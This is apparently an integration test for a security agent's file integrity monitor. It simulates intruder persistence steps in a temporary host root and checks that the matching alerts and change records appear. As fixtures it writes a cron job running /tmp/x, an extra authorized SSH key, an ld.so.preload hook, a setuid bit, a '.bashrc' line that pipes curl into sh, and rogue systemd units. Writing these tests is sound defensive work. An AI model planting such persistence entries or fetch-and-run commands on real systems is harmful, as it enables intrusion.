//! File integrity monitoring end to end (issue 16): the real binary, the real kernel's inotify,
//! real files in a temporary host root. Each change a persistence or privilege escalation would
//! make (a cron file, an authorized key, an `ld.so.preload`, a setuid binary, a renamed unit, a
//! deleted file, a shell rc file of a user from the host's passwd) must come out as the right
//! `FileChange`; a storm of 2,000 writes to one file must come out as a few events whose
//! `Writes` add up to exactly 2,000; a FIFO and a link to /dev/zero at watched paths must not
//! hang it; a change made while the agent was stopped is reported once at the next start, and
//! not again at the one after.

mod support;

use serde_json::Value;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};
use support::agent::{Agent, append};
use support::schema::{errors, message_validator};

/// Every FileChange record in `messages`.
fn changes(messages: &[Value]) -> Vec<Value> {
    messages
        .iter()
        .flat_map(|m| m["Events"].as_array().cloned().unwrap_or_default())
        .filter(|e| e["Name"] == "FileChange")
        .flat_map(|e| e["Payload"].as_array().cloned().unwrap_or_default())
        .collect()
}

/// Reads messages into `all` until `done` holds for the FileChange records so far, or panics
/// after `within`.
fn wait_for(
    agent: &Agent,
    all: &mut Vec<Value>,
    within: Duration,
    what: &str,
    done: impl Fn(&[Value]) -> bool,
) {
    let deadline = Instant::now() + within;
    while !done(&changes(all)) {
        assert!(
            Instant::now() < deadline,
            "{what}: not seen within {within:?}; FileChange records: {:#?}",
            changes(all)
        );
        if let Some(m) = agent.next_message(Duration::from_millis(200)) {
            all.push(m);
        }
    }
}

/// Every Alert record in `messages`.
fn alerts(messages: &[Value]) -> Vec<Value> {
    messages
        .iter()
        .flat_map(|m| m["Events"].as_array().cloned().unwrap_or_default())
        .filter(|e| e["Name"] == "Alert")
        .flat_map(|e| e["Payload"].as_array().cloned().unwrap_or_default())
        .collect()
}

fn find<'a>(records: &'a [Value], path: &str, op: &str) -> Option<&'a Value> {
    records
        .iter()
        .find(|r| r["Path"] == path && r["Operation"] == op)
}

fn extra<'a>(r: &'a Value, key: &str) -> &'a str {
    r["ExtraDetails"][key].as_str().unwrap_or("")
}

fn fake_host_root(root: &Path) {
    for d in [
        "etc/cron.d",
        "etc/systemd/system/multi-user.target.wants",
        "root/.ssh",
        "home/alice",
        "usr/bin",
        "var/spool/cron/crontabs",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
    )
    .unwrap();
    std::fs::write(root.join("etc/group"), "root:x:0:\nalice:x:1000:\n").unwrap();
    std::fs::write(root.join("etc/hosts"), "127.0.0.1 localhost\n").unwrap();
    std::fs::write(
        root.join("root/.ssh/authorized_keys"),
        "ssh-ed25519 AAAA admin\n",
    )
    .unwrap();
    std::fs::write(
        root.join("etc/systemd/system/app.service"),
        "[Service]\nExecStart=/usr/bin/app\n",
    )
    .unwrap();
    std::fs::copy("/bin/true", root.join("usr/bin/tool")).unwrap();
    std::fs::set_permissions(
        root.join("usr/bin/tool"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
}

fn config(state: &Path) -> std::path::PathBuf {
    let config = state.join("twin.json");
    std::fs::write(
        &config,
        r#"{"highPriorityMessageFrequency":"PT1S","lowPriorityMessageFrequency":"PT2S",
            "snapshotFrequency":"PT1H","containerCollectionEnabled":false}"#,
    )
    .unwrap();
    config
}

fn start(host: &Path, state: &Path, config: &Path) -> Agent {
    start_with_metrics(host, state, config, "off")
}

fn start_with_metrics(host: &Path, state: &Path, config: &Path, metrics: &str) -> Agent {
    Agent::start(
        state,
        &[
            "--host-root",
            host.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
            "--metrics-addr",
            metrics,
        ],
    )
}

/// One sample of the agent's /metrics (the first series of `name` whose labels include
/// `labels`), read over a plain HTTP/1.0 request.
fn metric(port: u16, name: &str, labels: &[&str]) -> Option<f64> {
    use std::io::Read;
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    s.write_all(b"GET /metrics HTTP/1.0\r\nHost: x\r\n\r\n")
        .ok()?;
    let mut body = String::new();
    s.read_to_string(&mut body).ok()?;
    body.lines()
        .filter(|l| l.starts_with(name) && l[name.len()..].starts_with(['{', ' ']))
        .find(|l| labels.iter().all(|x| l.contains(x)))
        .and_then(|l| l.rsplit(' ').next()?.parse().ok())
}

/// Waits until the collector has taken its first look (it saves it before following).
fn wait_ready(state: &Path, since: std::time::SystemTime) {
    let file = state.join("file-integrity.json");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::metadata(&file)
        .and_then(|m| m.modified())
        .is_ok_and(|t| t >= since)
    {
        assert!(
            Instant::now() < deadline,
            "the file integrity collector did not start in 30 s"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn every_persistence_change_is_reported_storms_are_coalesced_and_restarts_report_once() {
    if unsafe { libc::geteuid() } != 0 {
        panic!("this test needs root (a setuid bit, a FIFO)");
    }
    let host = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let h = host.path();
    fake_host_root(h);
    let config = config(state.path());
    let t0 = std::time::SystemTime::now() - Duration::from_secs(1);
    let port = support::agent::free_port();
    let agent = start_with_metrics(h, state.path(), &config, &format!("127.0.0.1:{port}"));
    wait_ready(state.path(), t0);
    let mut all = Vec::new();

    // What an intruder does, each once.
    std::fs::write(h.join("etc/cron.d/evil"), "* * * * * root /tmp/x\n").unwrap();
    append(
        &h.join("root/.ssh/authorized_keys"),
        b"ssh-rsa BBBB intruder\n",
    );
    std::fs::write(h.join("etc/ld.so.preload"), "/tmp/hook.so\n").unwrap();
    std::fs::set_permissions(
        h.join("usr/bin/tool"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::fs::rename(
        h.join("etc/systemd/system/app.service"),
        h.join("etc/systemd/system/app2.service"),
    )
    .unwrap();
    std::fs::remove_file(h.join("etc/hosts")).unwrap();
    append(&h.join("home/alice/.bashrc"), b"curl x | sh\n");
    std::fs::write(
        h.join("etc/systemd/system/multi-user.target.wants/evil.service"),
        "[Service]\n",
    )
    .unwrap();

    wait_for(
        &agent,
        &mut all,
        Duration::from_secs(30),
        "the intruder's changes",
        |r| {
            find(r, "/etc/cron.d/evil", "Created").is_some()
                && find(r, "/root/.ssh/authorized_keys", "Modified").is_some()
                && find(r, "/etc/ld.so.preload", "Created").is_some()
                && find(r, "/usr/bin/tool", "Attributes").is_some()
                && find(r, "/etc/systemd/system/app2.service", "Renamed").is_some()
                && find(r, "/etc/hosts", "Deleted").is_some()
                && find(r, "/home/alice/.bashrc", "Created").is_some()
                && find(
                    r,
                    "/etc/systemd/system/multi-user.target.wants/evil.service",
                    "Created",
                )
                .is_some()
        },
    );
    // The detector reads the same records (issue 17): each change an intruder makes raises the
    // rule for it, about the right path, whatever program wrote the file.
    let want = [
        ("persistence-file-written", "/etc/cron.d/evil"),
        ("persistence-file-written", "/home/alice/.bashrc"),
        (
            "persistence-file-written",
            "/etc/systemd/system/multi-user.target.wants/evil.service",
        ),
        ("ssh-authorized-keys-written", "/root/.ssh/authorized_keys"),
        ("ld-preload-written", "/etc/ld.so.preload"),
        ("file-privilege-gained", "/usr/bin/tool"),
    ];
    let deadline = Instant::now() + Duration::from_secs(30);
    let missing = |all: &[Value]| -> Vec<(&str, &str)> {
        let alerts = alerts(all);
        want.iter()
            .filter(|(rule, path)| {
                !alerts
                    .iter()
                    .any(|a| a["RuleId"] == *rule && a["ExtraDetails"]["Path"] == *path)
            })
            .copied()
            .collect()
    };
    while !missing(&all).is_empty() {
        assert!(
            Instant::now() < deadline,
            "alerts missing: {:?}; alerts raised: {:#?}",
            missing(&all),
            alerts(&all)
        );
        if let Some(m) = agent.next_message(Duration::from_millis(200)) {
            all.push(m);
        }
    }
    let preload = alerts(&all)
        .into_iter()
        .find(|a| a["RuleId"] == "ld-preload-written")
        .unwrap();
    assert_eq!(preload["Severity"], "Critical", "{preload}");
    assert_eq!(preload["Techniques"][0], "T1574.006", "{preload}");
    assert_eq!(preload["ExtraDetails"]["Operation"], "Created", "{preload}");
    let renamed = alerts(&all)
        .into_iter()
        .filter(|a| a["ExtraDetails"]["Path"] == "/etc/systemd/system/app2.service")
        .count();
    assert_eq!(renamed, 1, "a unit moved into place is persistence too");
    let deleted = alerts(&all)
        .into_iter()
        .filter(|a| a["ExtraDetails"]["Path"] == "/etc/hosts")
        .count();
    assert_eq!(deleted, 0, "deleting /etc/hosts matches no rule");

    let r = changes(&all);
    let cron = find(&r, "/etc/cron.d/evil", "Created").unwrap();
    assert_eq!(cron["OwnerName"], "root");
    assert_eq!(cron["Mode"], "0644");
    assert_eq!(cron["Size"], 22);
    assert_eq!(cron["HashAfter"].as_str().map(str::len), Some(64));
    let keys = find(&r, "/root/.ssh/authorized_keys", "Modified").unwrap();
    assert!(keys["HashBefore"].is_string(), "{keys}");
    assert_ne!(keys["HashBefore"], keys["HashAfter"]);
    let tool = find(&r, "/usr/bin/tool", "Attributes").unwrap();
    assert_eq!(tool["Mode"], "4755");
    assert_eq!(extra(tool, "SetuidGained"), "true", "{tool}");
    assert_eq!(extra(tool, "ModeBefore"), "0755");
    let unit = find(&r, "/etc/systemd/system/app2.service", "Renamed").unwrap();
    assert_eq!(
        extra(unit, "RenamedFrom"),
        "/etc/systemd/system/app.service"
    );
    let hosts = find(&r, "/etc/hosts", "Deleted").unwrap();
    assert!(
        hosts["HashBefore"].is_string() && hosts["HashAfter"].is_null(),
        "{hosts}"
    );

    // A write storm on one file: 2,000 appends, each its own open, write and close.
    let storm = h.join("etc/cron.d/storm");
    for i in 0..2000 {
        append(&storm, format!("{i}\n").as_bytes());
    }
    let writes = |r: &[Value]| -> u64 {
        r.iter()
            .filter(|c| c["Path"] == "/etc/cron.d/storm")
            .map(|c| extra(c, "Writes").parse::<u64>().unwrap_or(0))
            .sum()
    };
    wait_for(
        &agent,
        &mut all,
        Duration::from_secs(30),
        "2,000 writes",
        |r| writes(r) >= 2000,
    );
    let r = changes(&all);
    let storm_events = r
        .iter()
        .filter(|c| c["Path"] == "/etc/cron.d/storm")
        .count();
    assert_eq!(writes(&r), 2000, "every write accounted for, once");
    assert!(
        storm_events <= 30,
        "coalesced: {storm_events} events for 2,000 writes"
    );

    // Counted: watches in use, notifications (two per append at least: the write and the
    // close), events as collected.
    assert!(metric(port, "edgeguard_fim_watches", &[]).unwrap() >= 5.0);
    assert_eq!(metric(port, "edgeguard_fim_unwatched", &[]), Some(0.0));
    assert!(metric(port, "edgeguard_fim_notifications_total", &[]).unwrap() >= 4000.0);
    assert_eq!(
        metric(port, "edgeguard_fim_overflows_total", &[]),
        Some(0.0)
    );
    let collected = metric(
        port,
        "edgeguard_events_collected_total",
        &["collector=\"files\"", "kind=\"FileChange\""],
    )
    .unwrap();
    assert!(collected >= r.len() as f64, "{collected} < {}", r.len());

    // Hostile entries at watched paths: reported, not opened, and the collector carries on.
    let fifo = std::ffi::CString::new(h.join("etc/cron.d/pipe").to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    std::os::unix::fs::symlink("/dev/zero", h.join("etc/cron.d/zero")).unwrap();
    std::fs::write(h.join("etc/cron.d/after"), "x\n").unwrap();
    wait_for(
        &agent,
        &mut all,
        Duration::from_secs(30),
        "the FIFO, the link and a file after them",
        |r| {
            find(r, "/etc/cron.d/pipe", "Created").is_some_and(|c| extra(c, "Type") == "fifo")
                && find(r, "/etc/cron.d/zero", "Created")
                    .is_some_and(|c| extra(c, "Type") == "symlink" && c["HashAfter"].is_null())
                && find(r, "/etc/cron.d/after", "Created").is_some()
        },
    );

    let (ok, rest, stderr) = agent.stop(Duration::from_secs(20));
    assert!(ok, "clean exit: {stderr}");
    all.extend(rest);
    let v = message_validator();
    for m in &all {
        assert_eq!(errors(&v, m), Vec::<String>::new(), "{m}");
    }

    // While stopped: one change. Reported once at the next start...
    std::fs::write(h.join("etc/cron.d/evil"), "@reboot root /tmp/y\n").unwrap();
    let t1 = std::time::SystemTime::now() - Duration::from_millis(10);
    let agent = start(h, state.path(), &config);
    wait_ready(state.path(), t1);
    let mut again = Vec::new();
    wait_for(
        &agent,
        &mut again,
        Duration::from_secs(30),
        "the change made while stopped",
        |r| find(r, "/etc/cron.d/evil", "Modified").is_some(),
    );
    let (ok, rest, _) = agent.stop(Duration::from_secs(20));
    assert!(ok);
    again.extend(rest);
    let r = changes(&again);
    assert_eq!(r.len(), 1, "only the change made while stopped: {r:#?}");
    assert_eq!(extra(&r[0], "SeenAt"), "Start");
    assert_eq!(r[0]["HashAfter"], {
        use sha2::Digest;
        let d = sha2::Sha256::digest(b"@reboot root /tmp/y\n");
        Value::from(d.iter().map(|b| format!("{b:02x}")).collect::<String>())
    });

    // ...and not again at the one after.
    let t2 = std::time::SystemTime::now() - Duration::from_millis(10);
    let agent = start(h, state.path(), &config);
    wait_ready(state.path(), t2);
    // Whatever it sends in its first 3 s (the agent sends statistics on its timers, so this
    // is a bounded look, not a wait for silence).
    let mut quiet = Vec::new();
    let look_until = Instant::now() + Duration::from_secs(3);
    while let Some(left) = look_until.checked_duration_since(Instant::now()) {
        if let Some(m) = agent.next_message(left.min(Duration::from_millis(200))) {
            quiet.push(m);
        }
    }
    let (ok, rest, _) = agent.stop(Duration::from_secs(20));
    assert!(ok);
    let mut third = quiet;
    third.extend(rest);
    assert_eq!(
        changes(&third),
        Vec::<Value>::new(),
        "reported once, not twice"
    );
}
